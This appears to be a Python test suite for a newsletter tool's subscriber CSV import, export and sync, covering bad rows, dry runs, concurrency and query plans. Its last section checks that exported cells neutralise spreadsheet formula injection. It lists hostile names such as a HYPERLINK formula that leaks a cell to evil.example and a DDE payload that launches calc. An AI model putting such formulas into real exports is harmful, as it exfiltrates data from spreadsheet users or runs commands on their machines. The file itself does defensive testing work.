"""CSV import/export/sync: per-line reports, dry runs, idempotence, bad files, concurrency."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from digest.audience.csvfiles import export_csv, import_csv, sync_directory
from digest.audience.lists import create_list
from digest.audience.subscriptions import mark_bounced, unsubscribe
from digest.audience.suppressions import suppress
from digest.errors import InvalidInput
from digest.store import open_db

NOW = datetime(2025, 1, 21, 7, 0, tzinfo=UTC)


def dump(db) -> str:
    return "\n".join(db.conn.iterdump())


@pytest.fixture
def world(db):
    return create_list(db, "world", title="World", from_addr="desk@example.com",
                       tags=["Africa", "Europe"], now=NOW)  # fmt: skip


def write(path: Path, text: str, *, bom=False, crlf=False) -> Path:
    if crlf:
        text = text.replace("\n", "\r\n")
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8"))
    return path


MIXED = (
    "frequency,notes,EMAIL,name,tags\n"  # any column order, an unknown column
    "weekly,x,ann@example.com,Ann,Africa;europe\n"  # 2
    ",,BOB@Example.ORG,Bob,\n"  # 3
    "daily,,not-an-address,X,\n"  # 4 bad address
    "daily,,ann@EXAMPLE.com,Dup,\n"  # 5 duplicate of line 2 (domain case-insensitive)
    "daily,,cy@example.com,Cy,Mars\n"  # 6 tag not covered
    "hourly,,dee@example.com,Dee,\n"  # 7 unknown frequency
    'daily,,eve@example.com,"Eve\n'  # 8 LF inside a quoted field (spans lines 8-9)
    'Evil",\n'
    "daily,,fay@example.com,Fay\x07,\n"  # 10 control character
    "\n"  # 11 blank line, ignored
    "daily,,gus@example.com\n"  # 12 too few fields
    "daily,,hal@example.com,Hal,Europe\n"  # 13
)


@pytest.mark.parametrize(("bom", "crlf"), [(False, False), (True, True)])
def test_import_reports_each_bad_row_by_line_and_applies_the_rest(db, world, tmp_path, bom, crlf):
    path = write(tmp_path / "people.csv", MIXED, bom=bom, crlf=crlf)
    report = import_csv(db, path, "world", now=NOW)
    assert [(p.line, p.message.split(" ")[0]) for p in report.rejected] == [
        (4, "invalid"),
        (5, "duplicate"),
        (6, "tag"),
        (7, "unknown"),
        (8, "field"),
        (10, "field"),
        (12, "3"),
    ]
    assert "first on line 2" in report.rejected[1].message
    assert "'mars' is not covered by list 'world'" in report.rejected[2].message
    assert "line break or control character" in report.rejected[4].message
    assert report.warnings == [
        f"{path}: ignoring unknown column(s) 'notes' (known: email, name, tags, frequency, status, created_at, confirmed_at)"
    ]
    assert sorted(report.added) == ["BOB@example.org", "ann@example.com", "hal@example.com"]
    rows = db.execute(
        "SELECT p.email, p.name, s.status, s.frequency, s.tags FROM subscriptions s"
        " JOIN subscribers p ON p.id = s.subscriber_id ORDER BY p.email"
    ).fetchall()
    assert rows == [
        ("BOB@example.org", "Bob", "pending", "daily", "[]"),
        ("ann@example.com", "Ann", "pending", "weekly", '["africa", "europe"]'),
        ("hal@example.com", "Hal", "pending", "daily", '["europe"]'),
    ]
    events = db.execute("SELECT email, new_status, source, reason FROM status_events").fetchall()
    assert ("hal@example.com", "pending", "import", "import from people.csv") in events


def test_dry_run_reports_the_same_and_writes_nothing(db, world, tmp_path):
    path = write(tmp_path / "people.csv", MIXED)
    before = dump(db)
    dry = import_csv(db, path, "world", now=NOW, dry_run=True)
    assert dump(db) == before
    real = import_csv(db, path, "world", now=NOW)
    assert [str(p) for p in dry.rejected] == [str(p) for p in real.rejected]
    assert sorted(dry.added) == sorted(real.added)


def test_importing_twice_changes_nothing(db, world, tmp_path):
    path = write(tmp_path / "people.csv", MIXED)
    import_csv(db, path, "world", now=NOW, confirmed=True)
    before = dump(db)
    again = import_csv(db, path, "world", now=datetime(2025, 2, 1, tzinfo=UTC), confirmed=True)
    assert dump(db) == before
    assert (again.added, again.updated, again.activated, again.unchanged) == ([], [], [], 3)


def test_import_updates_pending_and_active_but_never_reactivates(db, world, tmp_path):
    write(tmp_path / "a.csv", "email,name\nann@example.com,Ann\nbob@example.org,Bob\n"
          "cy@example.com,Cy\ndee@example.com,Dee\n")  # fmt: skip
    import_csv(db, tmp_path / "a.csv", "world", now=NOW, confirmed=True)
    unsubscribe(db, "bob@example.org", source="web", reason="one-click", now=NOW)
    mark_bounced(db, "cy@example.com", "550 5.1.1 unknown user", now=NOW)
    suppress(db, "dee@example.com", "spam trap", source="cli", now=NOW)
    write(tmp_path / "b.csv", "email,name,frequency\nann@example.com,Ann B,weekly\n"
          "bob@example.org,Bob,\ncy@example.com,Cy,\ndee@example.com,Dee,\n")  # fmt: skip
    report = import_csv(db, tmp_path / "b.csv", "world", now=NOW, confirmed=True)
    assert report.updated == ["ann@example.com"]
    assert [(p.line, p.message.split(";")[0]) for p in report.skipped] == [
        (3, "bob@example.org is unsubscribed"),
        (4, "cy@example.com is bounced"),
        (5, "dee@example.com is on the suppression list (spam trap)"),
    ]
    statuses = dict(db.execute(
        "SELECT p.email, s.status FROM subscriptions s JOIN subscribers p"
        " ON p.id = s.subscriber_id").fetchall())  # fmt: skip
    assert statuses == {
        "ann@example.com": "active",
        "bob@example.org": "unsubscribed",
        "cy@example.com": "bounced",
        "dee@example.com": "active",  # suppressed: gets nothing, whatever its status
    }
    assert db.execute("SELECT frequency FROM subscriptions WHERE id = 1").fetchone()[0] == "weekly"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not a CSV text file (binary data at byte 8)"),
        (b"name,address\nAnn,ann@example.com\n", "line 1 must be a header naming the columns"),
        (b"caf\xe9,x\n", "not UTF-8 text (byte 0xe9 at offset 3)"),
        (b"", "empty file"),
        (b"email,email\nann@example.com,x\n", "column 'email' appears twice"),
        (
            b'email,name\nann@example.com,"Ann\n',
            "line 2: not valid CSV (unexpected end of data); nothing imported",
        ),
    ],
)
def test_a_file_that_is_not_usable_csv_fails_clearly_and_writes_nothing(
    db, world, tmp_path, content, message
):
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    before = dump(db)
    with pytest.raises(InvalidInput, match=re.escape(message)) as e:
        import_csv(db, path, "world", now=NOW)
    assert str(e.value).startswith(f"{path}: ")
    assert dump(db) == before


def test_import_command_exit_status_and_report(run, tmp_path):
    run("lists", "create", "world", "--title", "W", "--from", "d@example.com", "--tags", "Africa")
    write(tmp_path / "ok.csv", "email\nann@example.com\n")
    r = run("subscribers", "import", "ok.csv", "--list", "world", "--confirmed")
    assert r.exit_code == 0, r.output
    assert r.stdout.endswith("ok.csv -> world: 1 added, 0 activated, 0 updated, 0 unchanged, "
                             "0 skipped, 0 rejected\n")  # fmt: skip
    write(tmp_path / "bad.csv", "email,tags\nbob@example.org,Africa\nbad@@x,\n")
    r = run("subscribers", "import", "bad.csv", "--list", "world", "--dry-run")
    assert r.exit_code == 1
    assert "bad.csv: line 3: rejected: invalid address 'bad@@x'" in r.stdout
    assert r.stdout.splitlines()[-1].startswith("dry run, nothing written: bad.csv -> world: "
                                                "1 would be added")  # fmt: skip
    assert "Error: 1 row(s) rejected, see above" in r.stderr
    listed = run("subscribers", "list").stdout
    assert "bob@" not in listed
    r = run("subscribers", "import", "nope.csv", "--list", "world")
    assert r.exit_code == 1 and r.stderr == "Error: nope.csv: file not found\n"
    path = tmp_path / "img.csv"
    path.write_bytes(b"\x00\x01\x02")
    r = run("subscribers", "import", "img.csv", "--list", "world")
    assert r.exit_code == 1 and "not a CSV text file" in r.stderr and "Traceback" not in r.output


def test_export_imports_back_unchanged(db, world, tmp_path):
    write(tmp_path / "in.csv", 'email,name,tags,frequency\nann@example.com,"Ann, the ""First""",'
          "europe;Africa,weekly\nbob@example.org,,,daily\nzoë@example.org,Zoë,,daily\n")  # fmt: skip
    import_csv(db, tmp_path / "in.csv", "world", now=NOW, confirmed=True)
    assert export_csv(db, "world", tmp_path / "out.csv") == 3
    text = (tmp_path / "out.csv").read_text(encoding="utf-8")
    stamp = NOW.isoformat(timespec="microseconds")
    assert text.splitlines()[:2] == [
        "email,name,tags,frequency,status,created_at,confirmed_at",
        f'ann@example.com,"Ann, the ""First""",Africa;Europe,weekly,active,{stamp},{stamp}',
    ]
    before = dump(db)
    again = import_csv(db, tmp_path / "out.csv", "world", now=NOW, confirmed=True)
    assert again.unchanged == 3 and dump(db) == before

    other = open_db(tmp_path / "other.db", create=True)
    create_list(other, "world", title="World", from_addr="desk@example.com",
                tags=["Africa", "Europe"], now=NOW)  # fmt: skip
    import_csv(other, tmp_path / "out.csv", "world", now=NOW, confirmed=True)
    export_csv(other, "world", tmp_path / "out2.csv")
    assert (tmp_path / "out2.csv").read_text(encoding="utf-8") == text


def test_sync_adds_and_unsubscribes_but_a_bad_row_unsubscribes_nobody(db, world, tmp_path):
    folder = tmp_path / "subscribers"
    folder.mkdir()
    (folder / "README.md").write_text("not a list")
    write(folder / "world.csv", "email,name\nann@example.com,Ann\nbob@example.org,Bob\n")
    [first] = list(sync_directory(db, folder, now=NOW, confirmed=True))
    assert sorted(first.added) == ["ann@example.com", "bob@example.org"]

    write(folder / "world.csv", "email,tags\nann@example.com,Mars\ncy@example.com,\n")
    [plan] = list(sync_directory(db, folder, now=NOW, dry_run=True))
    before = dump(db)
    assert (plan.added, plan.removed) == (["cy@example.com"], ["bob@example.org"])
    assert [p.line for p in plan.rejected] == [2]
    assert dump(db) == before
    [done] = list(sync_directory(db, folder, now=NOW))
    assert done.removed == ["bob@example.org"]  # ann's row was bad: ann stays
    statuses = dict(db.execute(
        "SELECT p.email, s.status FROM subscriptions s JOIN subscribers p"
        " ON p.id = s.subscriber_id").fetchall())  # fmt: skip
    assert statuses == {
        "ann@example.com": "active",
        "bob@example.org": "unsubscribed",
        "cy@example.com": "pending",
    }
    reason = db.execute(
        "SELECT reason FROM status_events WHERE email = 'bob@example.org' ORDER BY id DESC"
    ).fetchone()[0]
    assert reason == "no longer in world.csv"
    # Back in the file: an unsubscribed address is not re-activated by sync.
    write(folder / "world.csv", "email\nann@example.com\nbob@example.org\ncy@example.com\n")
    [again] = list(sync_directory(db, folder, now=NOW, confirmed=True))
    assert [p.line for p in again.skipped] == [3] and again.activated == ["cy@example.com"]


def test_sync_command_reports_a_file_for_an_unknown_list_and_syncs_the_rest(run, tmp_path):
    run("lists", "create", "world", "--title", "W", "--from", "d@example.com")
    folder = tmp_path / "subscribers"
    folder.mkdir()
    write(folder / "world.csv", "email\nann@example.com\n")
    write(folder / "ghost.csv", "email\nbob@example.org\n")
    r = run("subscribers", "sync", "--dry-run")
    assert r.exit_code == 1
    assert "error: " + str(Path("subscribers") / "ghost.csv") + ": no list 'ghost'" in r.stderr
    assert "  + ann@example.com" in r.stdout and "dry run, nothing written" in r.stdout
    assert run("subscribers", "list").stdout == ""
    r = run("subscribers", "sync", "--confirmed")
    assert run("subscribers", "list").stdout == "ann@example.com\tworld\tactive\tdaily\t*\t\n"


def test_two_imports_at_once_lose_nothing(db, world, tmp_path):
    # Two real processes import overlapping files into one database at the same time.
    a = ["email,name"] + [f"a{i}@example.com,A {i}" for i in range(3000)]
    b = ["email,name"] + [f"b{i}@example.com,B {i}" for i in range(3000)]
    shared = [f"both{i}@example.org,Both {i}" for i in range(1500)]
    write(tmp_path / "a.csv", "\n".join(a + shared) + "\n")
    write(tmp_path / "b.csv", "\n".join(b + shared) + "\n")
    env = dict(os.environ, DIGEST_SECRET="t")
    db_path = db.conn.execute("PRAGMA database_list").fetchone()[2]
    procs = [
        subprocess.Popen(
            [
                sys.executable,
                "-m",
                "digest",
                "--db",
                db_path,
                "subscribers",
                "import",
                str(tmp_path / name),
                "--list",
                "world",
                "--confirmed",
            ],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=env,
        )  # fmt: skip
        for name in ("a.csv", "b.csv")
    ]
    outputs = [p.communicate(timeout=120) for p in procs]
    for p, (_out, err) in zip(procs, outputs, strict=True):
        assert p.returncode == 0, err.decode()
    assert db.execute("SELECT count(*) FROM subscribers").fetchone()[0] == 7500
    assert (
        db.execute("SELECT count(*) FROM subscriptions WHERE status = 'active'").fetchone()[0]
        == 7500
    )
    # Each address has exactly one 'active' event, whichever process added it.
    assert db.execute("SELECT count(*), count(DISTINCT email) FROM status_events").fetchone() == (
        7500,
        7500,
    )
    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_all_new_fast_path_stores_what_the_general_path_stores(tmp_path):
    # A batch of only new addresses takes a shortcut (rows numbered by the staging table);
    # a batch with one known address goes row by row. Both must store the same.
    lines = ["email,name,tags,frequency"] + [
        f"reader{n:02d}@example.org,Reader {n},{['', 'Africa', 'Europe;Africa'][n % 3]},"
        f"{['daily', 'weekly', ''][n % 3]}"
        for n in range(30, 0, -1)  # not in address order
    ]
    path = write(tmp_path / "people.csv", "\n".join(lines) + "\n")
    stored = []
    for name, known in (("fresh", None), ("known", "reader07@example.org")):
        db = open_db(tmp_path / f"{name}.db", create=True)
        create_list(db, "world", title="World", from_addr="desk@example.com",
                    tags=["Africa", "Europe"], now=NOW)  # fmt: skip
        if known:
            create_list(db, "other", title="Other", from_addr="desk@example.com", now=NOW)
            import_csv(db, write(tmp_path / "one.csv", f"email\n{known}\n"), "other", now=NOW)
        report = import_csv(db, path, "world", now=NOW, confirmed=True)
        assert len(report.added) == 30 and report.ok
        subs = db.execute(
            "SELECT p.id, p.email, p.name, s.frequency, s.tags, s.status, s.confirmed_at"
            " FROM subscriptions s JOIN subscribers p ON p.id = s.subscriber_id"
            " WHERE s.list_id = (SELECT id FROM lists WHERE slug = 'world') ORDER BY p.email"
        ).fetchall()
        events = db.execute(
            "SELECT email, old_status, new_status, source, reason FROM status_events"
            " WHERE list_slug = 'world' ORDER BY email"
        ).fetchall()
        stored.append((subs, events))
    (fresh, fresh_events), (known, known_events) = stored
    assert fresh_events == known_events and len(fresh_events) == 30
    # New subscribers are numbered in address order, after those already stored.
    assert [row[0] for row in fresh] == list(range(1, 31))
    assert [row[0] for row in known if row[1] != "reader07@example.org"] == list(range(2, 31))
    assert [row[1:] for row in fresh] == [row[1:] for row in known]
    assert fresh[0][1:] == (
        "reader01@example.org",
        "Reader 1",
        "weekly",
        '["africa"]',
        "active",
        NOW.isoformat(timespec="microseconds"),
    )


def test_import_statements_seek_by_index_and_leave_no_staging_rows(
    db, world, tmp_path, monkeypatch
):
    # Each import batch must cost the same however many subscribers are stored: every
    # statement an import or sync runs reads the stored tables through an index (no scan of
    # a growing table, no automatic index), and the staging table is empty after each batch.
    import digest.audience.csvfiles as csvfiles

    monkeypatch.setattr(csvfiles, "BATCH", 40)  # several batches from a small file
    statements: list[str] = []
    db.conn.set_trace_callback(statements.append)
    rows = [f"p{i:03d}@example.com,P {i},Africa,weekly" for i in range(100)]
    write(tmp_path / "a.csv", "email,name,tags,frequency\n" + "\n".join(rows) + "\n")
    import_csv(db, tmp_path / "a.csv", "world", now=NOW)  # only new addresses
    suppress(db, "p001@example.com", "asked", source="cli", now=NOW)
    unsubscribe(db, "p002@example.com", list_slug="world", source="cli", reason="asked", now=NOW)
    changed = [r.replace("weekly", "daily") for r in rows[:60]] + ["new@example.org,N,,"]
    (tmp_path / "sync").mkdir()
    path = write(
        tmp_path / "sync" / "world.csv", "email,name,tags,frequency\n" + "\n".join(changed) + "\n"
    )
    report = import_csv(db, path, "world", now=NOW, confirmed=True)
    assert len(report.added) == 1 and len(report.skipped) == 2 and len(report.activated) == 58
    (sync,) = sync_directory(db, tmp_path / "sync", now=NOW)
    db.conn.set_trace_callback(None)
    assert not isinstance(sync, Exception) and len(sync.removed) == 40

    # A full pass is allowed only over the batch itself (staging table, JSON list, VALUES).
    batch_only = re.compile(r"SCAN (temp\.)?import_rows|SCAN json_each|SCAN \d* ?CONSTANT ROW")
    checked = set()
    for sql in statements:
        if not sql.lstrip().upper().startswith(("SELECT", "INSERT", "UPDATE", "DELETE")):
            continue
        shape = re.sub(r"VALUES .*", "VALUES", sql, flags=re.S)
        if shape in checked or "sqlite_master" in sql or "PRAGMA" in sql:
            continue
        checked.add(shape)
        plan = [row[3] for row in db.execute("EXPLAIN QUERY PLAN " + sql).fetchall()]
        for step in plan:
            assert "AUTOMATIC" not in step, (sql, plan)
            assert "TEMP B-TREE" not in step, (sql, plan)
            if step.startswith("SCAN ") and not batch_only.match(step):
                # Only the emptiness check may walk a stored table (it stops at the first row),
                # and sync's one listing of the whole list, once per file, not per batch.
                once = sql.startswith("SELECT EXISTS (SELECT 1 FROM suppressions)")
                assert once or "ORDER BY p.identity" in sql, (sql, plan)
    assert any(s.startswith("INSERT INTO subscriptions") for s in checked)
    assert any(s.startswith("UPDATE subscriptions") for s in checked)
    assert db.execute("SELECT count(*) FROM temp.import_rows").fetchone()[0] == 0


# --- formula injection (OWASP CSV injection) --------------------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "-Ann",
    "+1 555 0100",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''-two quotes",
    "'Tis Ann",  # a quote before a harmless character is left alone
    "Ann = Bob",  # only the first character matters
]


def test_export_neutralises_formulas_and_imports_back_unchanged(db, tmp_path):
    from digest.audience.subscriptions import add_subscription

    odd = create_list(db, "odd", title="Odd", from_addr="desk@example.com",
                      tags=["@home", "Europe"], now=NOW)  # fmt: skip
    people = [(f"p{i}@example.com", name, ["@home"]) for i, name in enumerate(HOSTILE_NAMES)]
    people += [("-dash@example.com", "Dash", ["Europe"]), ("=eq@example.com", "Eq", []),
               ("+plus@example.com", "Plus", ["@home", "Europe"])]  # fmt: skip
    for address, name, tags in people:
        add_subscription(db, odd, address, name=name, tags=tags, frequency="daily",
                         confirmed=True, source="test", now=NOW)  # fmt: skip
    names = {r["name"] for r in db.query("SELECT name FROM subscribers")}
    assert set(HOSTILE_NAMES) <= names

    export_csv(db, "odd", tmp_path / "out.csv")
    text = (tmp_path / "out.csv").read_text(encoding="utf-8")
    import csv as csv_module

    cells = [c for row in csv_module.reader(text.splitlines()) for c in row]
    # What a spreadsheet would run: no exported cell starts with a formula character.
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")' in text
    assert "'-dash@example.com,Dash,Europe,daily" in text
    assert "''=already quoted" in text and "'''-two quotes" in text
    assert ",'Tis Ann," in text and ",Ann = Bob," in text  # unchanged
    assert "'@home" in text  # a tags cell too

    # The import takes exactly the added quote off: the export round-trips.
    before = dump(db)
    again = import_csv(db, tmp_path / "out.csv", "odd", now=NOW, confirmed=True)
    assert again.ok and again.unchanged == len(HOSTILE_NAMES) + 3
    assert dump(db) == before
    other = open_db(tmp_path / "other.db", create=True)
    create_list(other, "odd", title="Odd", from_addr="desk@example.com", tags=["@home", "Europe"],
                now=NOW)  # fmt: skip
    import_csv(other, tmp_path / "out.csv", "odd", now=NOW, confirmed=True)
    assert {r["name"] for r in other.query("SELECT name FROM subscribers")} == names
    export_csv(other, "odd", tmp_path / "out2.csv")
    assert (tmp_path / "out2.csv").read_text(encoding="utf-8") == text


@pytest.mark.parametrize(
    "value",
    ["", "x", "=1+1", "-", "'", "'=", "''=", "'Tis", "\t=x", "\r-x", "@", "a=b", "'''@x", "''x"],
)
def test_neutralise_and_restore_are_inverse(value):
    from digest.audience.csvfiles import neutralise_cell, restore_cell

    escaped = neutralise_cell(value)
    assert restore_cell(escaped) == value
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")
